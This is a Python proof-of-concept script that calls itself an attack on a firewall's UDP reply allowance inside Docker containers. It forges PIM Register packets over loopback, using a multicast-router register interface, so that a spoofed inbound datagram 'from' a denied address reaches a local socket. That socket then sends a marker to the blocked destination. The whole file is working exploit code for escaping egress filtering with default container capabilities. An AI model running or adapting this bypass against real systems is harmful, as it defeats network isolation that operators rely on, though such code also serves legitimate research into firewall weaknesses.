#!/usr/bin/env python3
"""pim.py FAMILY DENIED DPORT MARKER [LPORT]

An attack on the UDP reply allowance, with Docker's default capabilities:

FAMILY 4: becomes this namespace's multicast router (MRT_INIT on a raw IGMP socket: CAP_NET_RAW
only), adds a PIM register vif (the kernel makes and ups "pimreg"), joins a group on pimreg with a
UDP socket on LPORT, and sends over lo, to 127.0.0.1, a PIM Register whose inner datagram is
"from" DENIED:DPORT to the group. The kernel decapsulates it onto pimreg (not lo; pkt_type HOST)
and the UDP socket receives it. That socket then sends MK{MARKER} to DENIED:DPORT.
FAMILY 6: the same with MRT6_INIT on a raw ICMPv6 socket, a MIFF_REGISTER mif ("pim6reg"), ::1.
"""
import select
import socket
import struct
import sys

IPPROTO_PIM = 103


def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return (~s) & 0xFFFF


def say(*a):
    print(*a, flush=True)


def plain_send(fam, denied, dport, marker):
    s = socket.socket(fam, socket.SOCK_DGRAM)
    try:
        s.sendto(b"MK{%s}" % marker.encode(), (denied, dport))
        say("plain send: sent")
    except OSError as e:
        say("plain send:", e.errno, e.strerror)
    s.close()


def main():
    fam, denied, dport, marker = sys.argv[1], sys.argv[2], int(sys.argv[3]), sys.argv[4]
    lport = int(sys.argv[5]) if len(sys.argv) > 5 else 5000
    af = socket.AF_INET if fam == "4" else socket.AF_INET6
    plain_send(af, denied, dport, marker + "-before")
    if fam == "4":
        group = "239.7.7.7"
        mr = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_IGMP)
        mr.setsockopt(socket.IPPROTO_IP, 200, struct.pack("i", 1))  # MRT_INIT
        say("MRT_INIT ok")
        # struct vifctl: vifi, flags (VIFF_REGISTER), threshold, rate_limit, lcl, rmt
        mr.setsockopt(socket.IPPROTO_IP, 202, struct.pack("=HBBI4s4s", 0, 4, 1, 0, bytes(4), bytes(4)))
        dev = "pimreg"
    else:
        group = "ff0e::7:7"
        mr = socket.socket(socket.AF_INET6, socket.SOCK_RAW, socket.IPPROTO_ICMPV6)
        mr.setsockopt(socket.IPPROTO_IPV6, 200, struct.pack("i", 1))  # MRT6_INIT
        say("MRT6_INIT ok")
        # struct mif6ctl: mifi, flags (MIFF_REGISTER), threshold, pifi, rate_limit
        mr.setsockopt(socket.IPPROTO_IPV6, 202, struct.pack("=HBBHxxI", 0, 1, 1, 0, 0))
        dev = "pim6reg"
    ifindex = socket.if_nametoindex(dev)
    say("register vif added:", dev, "ifindex", ifindex)
    u = socket.socket(af, socket.SOCK_DGRAM)
    u.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    body = b"knock"
    if fam == "4":
        u.bind(("0.0.0.0", lport))
        u.setsockopt(socket.IPPROTO_IP, socket.IP_ADD_MEMBERSHIP,
                     socket.inet_aton(group) + bytes(4) + struct.pack("i", ifindex))
        u.setsockopt(socket.IPPROTO_IP, 8, 1)  # IP_PKTINFO
        udp = struct.pack("!HHHH", dport, lport, 8 + len(body), 0) + body
        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0x1234, 0, 64, 17, 0,
                         socket.inet_aton(denied), socket.inet_aton(group))
        inner = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:] + udp
        outer_dst = ("127.0.0.1", 0)
        r = socket.socket(socket.AF_INET, socket.SOCK_RAW, IPPROTO_PIM)
    else:
        u.bind(("::", lport))
        u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_JOIN_GROUP,
                     socket.inet_pton(socket.AF_INET6, group) + struct.pack("I", ifindex))
        u.setsockopt(socket.IPPROTO_IPV6, socket.IPV6_RECVPKTINFO, 1)
        src = socket.inet_pton(socket.AF_INET6, denied)
        dst = socket.inet_pton(socket.AF_INET6, group)
        ulen = 8 + len(body)
        pseudo = src + dst + struct.pack("!IxxxB", ulen, 17)
        udp0 = struct.pack("!HHHH", dport, lport, ulen, 0) + body
        c = csum(pseudo + udp0) or 0xFFFF
        udp = struct.pack("!HHHH", dport, lport, ulen, c) + body
        inner = struct.pack("!IHBB", 6 << 28, len(udp), 17, 64) + src + dst + udp
        outer_dst = ("::1", 0)
        r = socket.socket(socket.AF_INET6, socket.SOCK_RAW, IPPROTO_PIM)
    pim = struct.pack("!BBHI", 0x21, 0, 0, 0)  # PIMv2 Register, no flags
    if fam == "4":
        pim = pim[:2] + struct.pack("!H", csum(pim)) + pim[4:]
    else:  # over the header and IPv6's pseudo-header (::1 to ::1, 8 bytes, PIM)
        lo6 = socket.inet_pton(socket.AF_INET6, "::1")
        pseudo = lo6 + lo6 + struct.pack("!IxxxB", 8, IPPROTO_PIM)
        pim = pim[:2] + struct.pack("!H", csum(pseudo + pim)) + pim[4:]
    got = None
    for attempt in range(5):
        r.sendto(pim + inner, outer_dst)
        if select.select([u], [], [], 1.0)[0]:
            data, anc, _, peer = u.recvmsg(2048, 1024)
            arrived = None
            for lvl, typ, val in anc:
                if len(val) >= 4:
                    arrived = struct.unpack("i", val[16:20] if fam == "6" else val[:4])[0]
            say("received", data, "from", peer[:2], "on ifindex", arrived)
            got = peer
            break
    if not got:
        say("nothing received")
        return
    for i in range(5):
        try:
            u.sendto(b"MK{%s}" % marker.encode(), (denied, dport))
            say("reply send %d: sent" % i)
        except OSError as e:
            say("reply send %d:" % i, e.errno, e.strerror)
    # a second socket that never received anything: its send stays judged
    plain_send(af, denied, dport, marker + "-after")


main()
